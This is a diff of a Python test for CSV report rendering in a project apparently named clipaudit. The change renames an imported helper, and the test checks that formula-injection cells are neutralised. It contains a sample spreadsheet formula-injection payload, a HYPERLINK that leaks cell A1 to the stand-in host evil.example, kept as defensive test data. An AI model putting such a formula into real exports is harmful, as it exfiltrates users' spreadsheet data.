@@ -227,7 +227,7 @@ def test_csv_cells_are_text_in_a_spreadsheet() -> None:
     import csv
     import io
 
-    from clipaudit.reports.render import _csv, csv_cell
+    from clipaudit.reports.render import csv_cell, csv_text
 
     hostile = [
         '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -254,7 +254,9 @@ def test_csv_cells_are_text_in_a_spreadsheet() -> None:
         7,
         -1.5,
     ]
-    text = _csv(["section", "reason", "id", "decision"], [(0, "low_alignment", hostile[0], "drop")])
+    text = csv_text(
+        ["section", "reason", "id", "decision"], [(0, "low_alignment", hostile[0], "drop")]
+    )
     (row,) = list(csv.reader(io.StringIO(text)))[1:]
     assert row[2].startswith("'=") and row[3] == "drop"
 
